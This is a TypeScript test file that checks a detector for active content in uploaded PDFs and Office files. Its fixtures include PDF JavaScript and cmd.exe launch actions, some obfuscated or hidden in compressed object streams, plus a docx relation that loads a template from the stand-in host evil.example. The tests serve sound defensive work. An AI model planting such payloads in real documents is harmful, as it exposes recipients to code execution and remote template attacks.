import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { storedZip } from '#root/server/platform/spreadsheets/safe-zip.ts';
import { makeOfficeFile, makePdf, makePdfWithPages } from '#test/support/files.ts';
import { findActiveContent } from './active-content.ts';

const pdf = (objects: string) => Buffer.from(`%PDF-1.7\n${objects}\n%%EOF\n`, 'latin1');
const packed = (objects: string) => {
  const stream = deflateSync(Buffer.from(objects));
  const head = `1 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${stream.length}>>stream\n`;
  return Buffer.concat([Buffer.from(`%PDF-1.7\n${head}`), stream, Buffer.from('\nendstream endobj\n%%EOF\n')]);
};
const office = (name: string, content = '') => storedZip([{ name, content: Buffer.from(content) }]);
const relation = (kind: string, mode: string) =>
  office(
    'word/_rels/settings.xml.rels',
    `<Relationships><Relationship Id="r1" Type="http://x/${kind}" Target="https://evil.example/t.dotm"${mode}/></Relationships>`,
  );

describe('what a document can do by itself', () => {
  it.each([
    ['a plain PDF', 'pdf', makePdf(), []],
    ['a PDF with pages', 'pdf', makePdfWithPages(3), []],
    ['a PDF that only chooses its first page', 'pdf', pdf('<</OpenAction[3 0 R/Fit]>>'), []],
    ['a script', 'pdf', pdf('<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>'), ['scripts']],
    ['a script with a coded name', 'pdf', pdf('<</S/J#61vaScr#69pt/J#53(x)>>'), ['scripts']],
    ['a script in a compressed list of objects', 'pdf', packed('1 0 <</S/JavaScript/JS(x)>>'), ['scripts']],
    ['a program', 'pdf', packed('1 0 <</S/Launch/F(cmd.exe)>>'), ['programs']],
    ['an attachment', 'pdf', pdf('<</Names<</EmbeddedFiles 4 0 R>>>>'), ['attachments']],
    ['a plain document', 'docx', makeOfficeFile('docx'), []],
    ['macros', 'xlsx', office('xl/vbaProject.bin'), ['macros']],
    ['an embedded object', 'docx', office('word/embeddings/oleObject1.bin'), ['attachments']],
    ['a template from elsewhere', 'docx', relation('attachedTemplate', ' TargetMode="External"'), ['links']],
    ['a link to click', 'docx', relation('hyperlink', ' TargetMode="External"'), []],
    ['a relation within the file', 'docx', relation('attachedTemplate', ''), []],
  ] as const)('is found: %s', async (_, type, content, found) => {
    expect(await findActiveContent(type, content)).toEqual(found);
  });

  it('is not searched for in a list of objects that is too large when unpacked', async () => {
    expect(await findActiveContent('pdf', packed(`${' '.repeat(8 * 1024 * 1024)}/JavaScript`))).toEqual([]);
  });
});
